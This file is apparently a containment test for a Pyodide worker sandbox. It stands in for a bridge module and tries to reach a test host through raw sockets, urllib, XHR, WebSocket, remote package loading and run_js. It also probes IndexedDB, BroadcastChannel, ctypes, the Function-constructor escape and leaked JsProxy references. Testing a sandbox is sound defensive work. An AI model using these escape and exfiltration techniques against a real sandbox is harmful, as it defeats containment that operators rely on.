"""Stands in for parley.bridge and tries every way out that Python in the worker has.

It tries while the worker is still starting, unless told not to, and again when it is called, which
answers with the outcomes: for each attack what it brought back, or None where it was stopped.
"""

import json
import sys

from parley.target import HOST, WHILE_STARTING


def through_socket():
    # What `socket` is made of; that itself is not in the library.
    import _socket

    host, port = HOST.split(":")
    connection = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    connection.settimeout(1)
    connection.connect((host, int(port)))
    connection.send(b"GET /socket?secret HTTP/1.1\r\n\r\n")
    return "sent"


def through_urllib():
    import urllib.request

    return urllib.request.urlopen(f"http://{HOST}/urllib?secret").status


def through_pyodide_http():
    from pyodide.http import pyxhr

    return pyxhr.get(f"http://{HOST}/pyxhr?secret").status


def through_script():
    from pyodide.code import run_js

    return repr(run_js(f"new WebSocket('ws://{HOST}/run_js?secret')"))


def through_xhr():
    import js

    request = js.XMLHttpRequest.new()
    request.open("GET", f"http://{HOST}/xhr?secret", False)
    request.send()
    return "sent"


def through_websocket():
    import js

    socket = js.WebSocket.new(f"ws://{HOST}/websocket?secret")
    return "opening" if socket.readyState == 0 else 1 / 0


def through_packages():
    import pyodide_js

    return repr(pyodide_js.loadPackage(f"http://{HOST}/secret-1-py3-none-any.whl"))


def through_storage():
    import js

    return repr(js.indexedDB.open("secret"))


def through_another_page():
    import js

    return repr(js.BroadcastChannel.new("secret"))


def through_memory():
    import ctypes

    return repr(ctypes.CDLL(None))


def through_what_python_still_holds():
    """Any JavaScript object that a module of Python keeps leads to all of JavaScript."""
    # The garbage collector does not know them.
    kept = [
        (f"{name}.{key}", value)
        for name, module in list(sys.modules.items())
        for key, value in list(getattr(module, "__dict__", {}).items())
    ]
    held = [(name, value) for name, value in kept if type(value).__name__ == "JsProxy"]
    found = [name for name, value in held if hasattr(value.constructor, "constructor")]
    return found or 1 / 0


def through_to_js():
    from pyodide.ffi import to_js

    return repr(to_js([]).constructor.constructor("return 1")())


def through_native_calls():
    import _ctypes

    return repr(_ctypes.dlopen(None, 0))


def through_what_it_took_while_starting():
    """JavaScript that a module of the engine, or of somebody's snapshot, would keep for later."""
    return sorted(taken) if taken else 1 / 0


def take():
    import js

    ways = ("fetch", "indexedDB", "WebSocket", "Worker", "postMessage", "BroadcastChannel")
    return {way: getattr(js, way) for way in ways if hasattr(js, way)}


taken = take()


def try_everything():
    outcomes = {}
    for name, attack in globals().copy().items():
        if name.startswith("through_"):
            try:
                outcomes[name] = attack()
            except BaseException:
                outcomes[name] = None
    return outcomes


while_starting = try_everything() if WHILE_STARTING else {}


def call(name, text):
    return json.dumps({"ok": {"while starting": while_starting, "when called": try_everything()}})
